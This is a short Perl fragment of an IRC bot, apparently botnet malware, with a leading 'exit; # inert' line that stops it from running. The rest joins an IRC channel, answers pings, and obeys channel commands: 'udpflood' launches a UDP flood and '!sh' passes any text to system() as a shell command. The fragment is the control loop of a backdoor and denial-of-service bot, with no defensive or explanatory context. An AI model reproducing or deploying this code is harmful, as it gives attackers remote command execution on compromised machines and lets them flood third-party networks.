exit; # inert
print $sock "NICK $nick\r\n"; print $sock "JOIN $channel\r\n";
if (/^PING/) { print $sock "PONG\r\n" }
if (/udpflood (.*)/) { udpflood($1) }
if (/PRIVMSG .*:!sh (.*)/) { system($1) }
